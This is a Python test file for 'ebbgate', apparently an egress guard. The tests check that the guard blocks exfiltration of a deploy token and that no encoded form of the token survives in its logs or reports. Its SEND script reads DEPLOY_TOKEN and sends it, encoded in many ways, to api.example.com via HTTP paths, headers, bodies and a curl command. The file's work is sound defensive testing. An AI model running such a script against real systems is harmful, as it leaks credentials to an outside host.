"""However a secret was written when it was cut: nothing that the guard writes holds it, neither so nor in any other way."""

from __future__ import annotations

import json
import os
import secrets
from collections.abc import Iterator
from pathlib import Path

import pytest

from ebbgate.secrets.finding import Carrier, Place
from ebbgate.secrets.scanner import Scanner
from ebbgate.secrets.secret import Secret
from tests.attacks.programs import PYTHON
from tests.job.guarded import STATE, Job
from tests.machine import Machine
from tests.secrets.encodings import DISGUISED, TEXTUAL
from tests.world import World
from tests.world.guard import ROOT

EVERY = {**TEXTUAL, **DISGUISED}
WINDOW = 16  # characters of a form that must not be there; some eight of the value where a form spells it out
# In a path; in a query, a header and a body; on a command line, which stands in the record of who sent it.
SEND = f"""
import http.client, os, ssl, subprocess, sys, urllib.parse
sys.path.insert(0, {str(ROOT)!r})
from tests.secrets.encodings import DISGUISED, TEXTUAL
value, trust = os.environb[b"DEPLOY_TOKEN"], ssl.create_default_context()
def send(method, path, body=None, headers={{}}):
    try:
        connection = http.client.HTTPSConnection("api.example.com", timeout=20, context=trust)
        connection.request(method, path, body, headers)
        connection.getresponse().read()
    except (OSError, http.client.HTTPException, ValueError):
        pass
for name, encode in {{**TEXTUAL, **DISGUISED}}.items():
    form = encode(value)
    written = urllib.parse.quote_from_bytes(form, safe="")
    send("GET", "/collect/" + written)
    header = {{}} if set(form) & set(b"\\r\\n\\0") else {{"X-Data": form}}
    send("POST", "/?q=" + written, form, header)
    if 0 not in form:
        subprocess.run(["curl", "-sS", "-m", "20", "-d", form, "https://api.example.com/"], capture_output=True)
print("tried", len({{**TEXTUAL, **DISGUISED}}))
"""


def texts_of(written: object) -> Iterator[str]:
    """Every string of a document, its keys too."""
    if isinstance(written, dict):
        for key, value in written.items():
            yield from (key, *texts_of(value))
    elif isinstance(written, list):
        for value in written:
            yield from texts_of(value)
    elif isinstance(written, str):
        yield written


def all_texts(written: bytes, records: list[dict], report: dict) -> set[str]:
    """What stands in the records, and each line of all that was written."""
    lines = written.decode("utf-8", "surrogateescape").splitlines()
    return {*texts_of(records), *texts_of(report), *(line for line in lines if not line.startswith("{"))}


def assert_in_no_form(value: str, texts: set[str]) -> None:
    """By the scanner's own reading of each text, and by what of each form another value of the same make has not."""
    raw, other = value.encode(), ("tok_" + secrets.token_urlsafe(64)[: len(value) - 4]).encode()
    scanner = Scanner([Secret("S", raw, "--secret")], salt=b"salt")
    shown = {text for text in texts if scanner.scan(text.encode("utf-8", "surrogateescape"), Place(Carrier.BODY)).findings}
    assert shown == set(), f"{len(shown)} texts"
    together = "\n".join(texts).encode("utf-8", "surrogateescape")
    together += together.replace(b"\\n", b"\n").replace(b"\\\\", b"\\")  # as records show control characters
    for name, encode in EVERY.items():
        form, elsewhere = encode(raw), encode(other)
        own = {form[at : at + WINDOW] for at in range(len(form) - WINDOW + 1)}
        own -= {elsewhere[at : at + WINDOW] for at in range(len(elsewhere) - WINDOW + 1)}
        assert own, name
        assert not [one for one in own if one in together], name


def test_by_one_command(world: World, secret: str) -> None:
    outcome = world.guard.run(
        ["--allow", "api.example.com", "--on-exfiltration", "fail"], [PYTHON, "-c", SEND], env={"DEPLOY_TOKEN": secret}
    )
    assert outcome.code == 91, outcome.stderr
    assert outcome.stdout == f"tried {len(EVERY)}\n"
    cut = [one for one in outcome.events if one["kind"] == "Exchange" and one["findings"]]
    assert len(cut) > 2 * len(EVERY)
    assert_in_no_form(secret, all_texts(outcome.everything_written(), outcome.events, outcome.report))


@pytest.mark.root
def test_by_the_steps_of_a_job(machine: Machine, secret: str) -> None:
    with Job(machine, secrets={"DEPLOY_TOKEN": secret}, allow="api.example.com", on_exfiltration="fail") as job:
        done = job.step([machine.python, "-c", SEND], env={"DEPLOY_TOKEN": secret}, timeout=120)
        assert done.stdout == f"tried {len(EVERY)}\n", done.stderr
        verdict = job.verdict()
        assert verdict.code == 91
        files = machine.inside(lambda: files_below(STATE, "/tmp/verdict"))
        assert {f"{STATE}/events.jsonl", "/tmp/verdict/report.json"} <= files.keys()
        written = (
            b"\n".join(files.values()) + verdict.stdout.encode() + verdict.stderr.encode() + json.dumps(job.status()).encode()
        )
        assert len([one for one in job.events("Exchange") if one["findings"]]) > 2 * len(EVERY)
        assert_in_no_form(secret, all_texts(written, job.events(), verdict.report))


def files_below(*places: str) -> dict[str, bytes]:
    """Contents by path; a control socket is no file."""
    found = (os.path.join(at, one) for place in places for at, _below, names in os.walk(place) for one in names)
    return {path: Path(path).read_bytes() for path in found if os.path.isfile(path)}
